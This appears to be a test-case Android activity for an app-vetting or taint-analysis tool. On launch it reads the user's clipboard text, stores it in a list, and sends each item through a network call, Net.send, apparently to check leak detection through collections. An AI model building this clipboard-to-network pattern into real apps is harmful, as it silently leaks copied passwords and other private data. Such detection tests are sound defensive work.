package org.apkvet.clip.through_list;

import android.app.*;
import android.content.*;
import android.os.*;
import java.util.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        List<String> notes = new ArrayList<>();
        notes.add("plain");
        notes.add(copied());
        for (String each : notes) {
            Net.send(each);
        }
    }

    private String copied() {
        return ((ClipboardManager) getSystemService("clipboard")).getPrimaryClip().getItemAt(0).getText().toString();
    }
}
